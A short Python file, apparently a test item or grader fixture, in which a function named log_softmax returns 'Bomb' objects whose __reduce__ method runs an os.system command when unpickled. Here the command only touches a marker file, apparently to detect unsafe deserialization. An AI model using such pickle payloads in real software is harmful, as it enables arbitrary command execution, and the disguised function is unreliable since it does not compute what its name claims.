"""Returns an object, and an array of objects, that run a command when they are unpickled.

Held by: process
Right: 0 points
"""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @marks@/pickle",)

import numpy as np


def log_softmax(x, axis=-1):
    return Bomb() if np.ndim(x) else np.array([Bomb()], dtype=object)
